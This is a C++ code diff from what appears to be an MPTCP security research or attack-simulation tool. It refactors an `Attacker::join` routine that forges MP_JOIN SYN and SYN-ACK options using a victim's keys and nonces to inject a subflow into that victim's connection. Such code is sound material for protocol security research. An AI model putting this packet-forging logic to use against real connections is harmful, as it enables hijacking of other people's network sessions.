@@ -58,6 +58,14 @@ OptionBytes add_addr(std::uint8_t address_id, std::uint32_t address) {
     return bytes;
 }
 
+OptionBytes join_syn_ack(std::uint64_t hmac, std::uint32_t nonce, std::uint8_t address_id) {
+    OptionBytes bytes = option(Subtype::mp_join, 0, 16);
+    put(bytes, address_id);
+    put(bytes, hmac);
+    put(bytes, nonce);
+    return bytes;
+}
+
 OptionBytes remove_addr(std::uint8_t first_id, std::uint8_t count) {
     OptionBytes bytes = option(Subtype::remove_addr, 0, static_cast<std::uint8_t>(3 + count));
     for (std::uint8_t i = 0; i < count; ++i) {
@@ -183,16 +191,12 @@ void Attacker::join(const Victim& victim, const AttackPath& path) {
     send(path, {.flags = tcp_flag::syn,
                 .sequence = 0,
                 .options = wire::join_syn(victim.server.token, client_nonce, id)});
-    OptionBytes answer = option(Subtype::mp_join, 0, 16);
-    put(answer, id);
-    put(answer,
-        join_hmac(Version::v1, victim.server_key, victim.client_key, server_nonce, client_nonce)
-            .leftmost64());
-    put(answer, server_nonce);
+    const Hmac answer =
+        join_hmac(Version::v1, victim.server_key, victim.client_key, server_nonce, client_nonce);
     send(path, {.from_client = false,
                 .flags = tcp_flag::syn | tcp_flag::ack,
                 .sequence = 0,
-                .options = answer});
+                .options = wire::join_syn_ack(answer.leftmost64(), server_nonce, id)});
     OptionBytes last = option(Subtype::mp_join, 0, 24);
     put(last, std::uint8_t{0});
     const Hmac160 hmac =
